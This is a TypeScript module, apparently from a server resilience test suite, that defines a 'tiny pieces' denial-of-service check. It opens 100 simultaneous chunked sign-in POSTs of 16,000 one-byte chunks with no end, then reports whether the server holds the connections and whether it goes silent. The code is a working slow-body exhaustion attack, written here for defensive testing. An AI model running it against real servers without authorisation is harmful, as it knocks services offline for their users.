import { type Attack, report } from './attack.ts'
import { healthDuring, inWords } from './health-probe.ts'
import { SILENCE_MS } from './limits.ts'
import { isHeldOpen } from './slow-senders.ts'

const CONNECTIONS = 100
const PIECES = 16_000
/** A server that keeps the pieces waits longer for the end of the body. */
const PATIENCE_MS = 20_000

/** Needs no key: kept one by one, pieces of a body take hundreds of times as much memory as was sent. */
export const tinyPieces: Attack = {
  name: 'bodies in tiny pieces',
  sends: `${CONNECTIONS} sign-ins at once, each with ${PIECES} chunks of one byte and no end`,
  async run(target) {
    const sender = {
      begins: (host: string, path: string) =>
        `POST ${path}/workspace/sign-in HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\n` +
        `Transfer-Encoding: chunked\r\n\r\n${'1\r\n \r\n'.repeat(PIECES)}`,
    }
    const [open, health] = await healthDuring(target.baseUrl, () =>
      Promise.all(Array.from({ length: CONNECTIONS }, () => isHeldOpen(target, sender, '', PATIENCE_MS))),
    )
    const held = open.filter(Boolean).length
    return report(
      `${CONNECTIONS - held} of ${CONNECTIONS} closed by the server; ${inWords(health)}`,
      [held === 0, 'high', `the server keeps ${held * PIECES} pieces`],
      [health.maxMs < SILENCE_MS, 'high', 'chunks of one byte silence the server'],
    )
  },
}
